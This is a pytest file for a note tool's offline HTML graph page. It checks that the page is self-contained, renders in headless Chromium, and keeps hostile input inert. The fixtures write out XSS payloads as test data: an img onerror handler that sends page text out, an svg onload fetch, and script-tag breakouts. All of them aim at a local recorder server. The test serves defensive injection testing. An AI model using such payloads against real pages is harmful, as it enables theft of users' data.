"""`zk graph --html FILE`: one offline page with notes, links and entities, rendered by a real browser
(headless Chromium, started here; skipped with the reason when it is not installed)."""

from __future__ import annotations

import html
import json
import re
import shutil
import subprocess
import time

import pytest

from tests.test_vault import journal, zk  # noqa: F401 - fixtures: a small journal with links and entities

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def page_data(page: str) -> dict:
    raw = re.search(r'<script type="application/json" id="data">(.*?)</script>', page, re.S).group(1)
    return json.loads(raw)


def test_page_is_self_contained_and_holds_the_graph(zk, journal, tmp_path):  # noqa: F811
    target = tmp_path / "graph.html"
    code, out, err = zk("graph", "--html", str(target), "--json")
    assert code == 0, err
    summary = json.loads(out)
    page = target.read_text(encoding="utf-8")
    notes = journal.store.notes()
    assert summary["notes"] == len(notes) == 7 and summary["entities"] >= 2 and summary["links"] >= 1
    assert "vis-network" in page and "<script src" not in page and "https://cdn" not in page
    assert not re.search(r"<(link|img|iframe)[^>]+(href|src)=\"https?:", page)  # nothing fetched from the net
    data = page_data(page)
    assert len(data["nodes"]) == summary["nodes"] and {n["id"] for n in data["nodes"] if n["kind"] == "note"} == \
        {n.id for n in notes}
    links = {(e["from"], e["to"]) for e in data["edges"] if e["kind"] == "link"}
    assert links == {(n.id, t) for n in notes for t in n.links}
    mentions = {(e["from"], e["to"]) for e in data["edges"] if e["kind"] == "mention"}
    onbiseo = next(n["id"] for n in data["nodes"] if n["kind"] == "entity" and n["label"] == "Onbiseo")
    assert {to for frm, to in mentions if frm == onbiseo} == {n.id for n in notes if "Onbiseo" in n.content}
    assert any(n.get("user_tags") == ["running", "무릎"] for n in data["nodes"])
    korean = next(n for n in notes if n.content.startswith("나는"))
    assert korean.content in {n.get("text") for n in data["nodes"]}  # the whole note, for the click panel


def test_bad_graph_options_are_one_line(zk, journal, tmp_path):  # noqa: F811
    code, _, err = zk("graph", "Onbiseo", "--html", str(tmp_path / "g.html"))
    assert code == 1 and len(err.strip().splitlines()) == 1 and "whole notebook" in err
    code, _, err = zk("graph", "--html", str(tmp_path / "no-such-dir" / "g.html"))
    assert code == 1 and "cannot write" in err
    code, out, _ = zk("graph", "Onbiseo", "--json")  # the entity view still works
    assert code == 0 and json.loads(out)["entity"]["name"] == "Onbiseo"


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install chromium)")
def test_headless_chromium_renders_every_node(zk, journal, tmp_path):  # noqa: F811
    target = tmp_path / "graph.html"
    assert zk("graph", "--html", str(target))[0] == 0
    nodes = len(page_data(target.read_text(encoding="utf-8"))["nodes"])
    dom = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}",
         "--virtual-time-budget=5000", "--dump-dom", target.as_uri()],
        capture_output=True, text=True, timeout=120).stdout
    count = re.search(r'<span id="count" data-nodes="(\d+)">([^<]*)</span>', dom)
    assert count, dom[-2000:]
    assert int(count.group(1)) == nodes  # written by the page's script from vis-network's own DataSet
    assert html.unescape(count.group(2)).startswith("7 notes, ")
    assert "<canvas" in dom  # vis-network drew its canvas


# -- issue #28 item 7: hostile notebook names, notes and entities ------------------------------------------
class _Recorder:
    """A local HTTP server that records every request a page makes (none may come)."""

    def __init__(self) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                recorder.paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def recorder():
    server = _Recorder()
    yield server
    server.close()


def hostile_texts(base: str) -> dict[str, str]:
    exfil = f"<img src=x onerror=\"new Image().src='{base}/onerror?'+document.body.innerText.slice(0,80)\">"
    return {
        "__DATA__": f"shared recipe list {exfil} <svg onload=\"fetch('{base}/svg')\">",
        "main": (f"see __LIBRARY__ and __TITLE__ and __CSP__ in the docs <!-- draft --> </script><script>"
                 f"new Image().src='{base}/script'</script> line\u2028separated\u2029 & &amp; ]]> "
                 f"<img src={base}/img>"),
    }


@pytest.fixture
def hostile_page(tmp_path, recorder, embedder):
    """`zk graph --html --all` (a real subprocess) over a notebook named `__DATA__`, a note holding every
    slot name and `<!--`/`</script>`, and entities and a relation named like markup."""
    from tests import harness
    from zettel_amem.core.models import Entity, Relation
    from zettel_amem.memory import Memory
    from zettel_amem.tiers.service import Tiers

    home = tmp_path / "home"
    env = harness.zk_env(home)
    texts = hostile_texts(recorder.base)
    for notebook, text in texts.items():
        harness.run("-n", notebook, "add", text, env=env, check=True)
    tiers = Tiers(Memory(home, embedder=embedder))
    names = ["__DATA__ </script><!--", f"<img src={recorder.base}/entity>"]
    entities = [Entity(id=f"{i:032x}", name=name, type="person", notebook="main", key=name.casefold(),
                       created="2026-03-01T10:00:00", episodes=[], vector=[0.01] * embedder.dim)
                for i, name in enumerate(names, 1)]
    tiers.store.put_entities(entities)
    tiers.store.put_relations([Relation(id="f" * 32, subject=entities[0].id, object=entities[1].id,
                                        predicate=f'knows "><img src={recorder.base}/relation>', notebook="main",
                                        valid_from="2026-03-01T10:00:00", created="2026-03-01T10:00:00")])
    target = tmp_path / "graph.html"
    summary = json.loads(harness.run("graph", "--html", str(target), "--all", "--json", env=env,
                                     check=True).stdout)
    return target, summary, texts, names


def _tags(page: str) -> list[str]:
    from html.parser import HTMLParser

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags: list[str] = []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)

    parser = Tags()
    parser.feed(page)
    return parser.tags


def test_7_hostile_names_and_notes_stay_data(hostile_page):
    from zettel_amem.cli.graphpage import VENDOR, render_page

    target, summary, texts, names = hostile_page
    page = target.read_text(encoding="utf-8")
    benign = render_page({"nodes": [], "edges": [], "notes": 0, "entities": 0, "links": 0}, "zk · main")
    assert _tags(page) == _tags(benign)  # no element came from the data: the same tags as an empty page
    assert len(page) < len(benign) + 20_000  # the library once, not pasted into the data
    assert page.count(VENDOR.read_text(encoding="utf-8")[:200]) == 1
    raw = re.search(r'<script type="application/json" id="data">(.*?)</script>', page, re.S).group(1)
    assert not set(raw) & {"<", ">", "&", "\u2028", "\u2029"}
    data = json.loads(raw)
    assert len(data["nodes"]) == summary["nodes"]
    assert {n["text"] for n in data["nodes"] if n["kind"] == "note"} == set(texts.values())
    assert {n["label"] for n in data["nodes"] if n["kind"] == "entity"} == set(names)
    assert [e["label"] for e in data["edges"] if e["kind"] == "relation"][0].startswith('knows "><img')
    assert "<title>zk · __DATA__, main</title>" in page and "<strong>zk · __DATA__, main</strong>" in page
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page).group(1)
    assert "default-src 'none'" in csp and "connect-src 'none'" in csp and "unsafe-inline" not in \
        csp.split("script-src")[1].split(";")[0]


def _chromium_dom(page, profile) -> str:
    return subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={profile}",
         "--virtual-time-budget=5000", "--dump-dom", page.as_uri()],
        capture_output=True, text=True, timeout=120).stdout


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install chromium)")
def test_7_hostile_page_renders_in_chromium_and_sends_nothing(hostile_page, recorder, tmp_path):
    target, summary, _, _ = hostile_page
    dom = _chromium_dom(target, tmp_path / "profile")
    count = re.search(r'<span id="count" data-nodes="(\d+)">([^<]*)</span>', dom)
    assert count and int(count.group(1)) == summary["nodes"] == 4, dom[-2000:]
    assert "<title>zk · __DATA__, main</title>" in dom and "<canvas" in dom
    # Were markup to get into the page anyway, the page's Content-Security-Policy stops it from running
    # or reaching the network, while the page's own scripts still draw the graph.
    injected = tmp_path / "injected.html"
    injected.write_text(target.read_text(encoding="utf-8").replace(
        "</body>", f"<img src={recorder.base}/csp-img><script>fetch('{recorder.base}/csp-fetch');"
                   f"document.title='ran'</script></body>"), encoding="utf-8")
    dom = _chromium_dom(injected, tmp_path / "profile2")
    assert re.search(r'<span id="count" data-nodes="4">', dom) and "<title>zk · __DATA__, main</title>" in dom
    time.sleep(0.5)
    assert recorder.paths == []  # no request left either page
